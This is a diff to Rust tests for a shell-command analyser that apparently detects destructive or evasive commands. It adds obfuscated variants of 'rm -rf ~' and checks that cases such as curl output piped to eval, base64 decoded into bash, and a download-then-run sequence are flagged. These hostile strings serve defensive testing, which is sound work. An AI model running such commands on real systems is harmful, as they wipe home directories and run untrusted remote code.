@@ -57,6 +57,10 @@ fn rm_is_seen_however_it_is_written() {
         "eval 'rm -rf ~'",
         "echo hi && (cd /tmp; rm -rf ~)",
         "RM -RF ~",
+        "`echo rm` -rf ~",
+        "rm -rf $(echo ~)",
+        "rm -rf \"$(printf '%s' ~)\"",
+        "rm -rf $(dirname ~/x)",
     ] {
         assert!(has(hint, "rm -f -r ~"), "{hint}: {:?}", programs(hint));
     }
@@ -68,7 +72,7 @@ fn rm_is_seen_however_it_is_written() {
 fn what_cannot_be_resolved_is_a_fact() {
     assert!(facts("$CMD -rf ~").contains(&Fact::DynamicCommand));
     assert!(facts("/bin/r[m] -rf ~").contains(&Fact::DynamicCommand));
-    assert!(facts("`echo rm` -rf ~").contains(&Fact::DynamicCommand));
+    assert!(facts("`cat cmd.txt` -rf ~").contains(&Fact::DynamicCommand));
     assert!(facts("eval \"$(curl -s https://x)\"").contains(&Fact::EvalOfUnknownText));
     assert!(facts("echo abc | base64 -d | bash").contains(&Fact::DecodedIntoExecutor));
     assert!(facts("curl -o /tmp/i https://host/i; sh /tmp/i").contains(&Fact::WrittenThenExecuted));
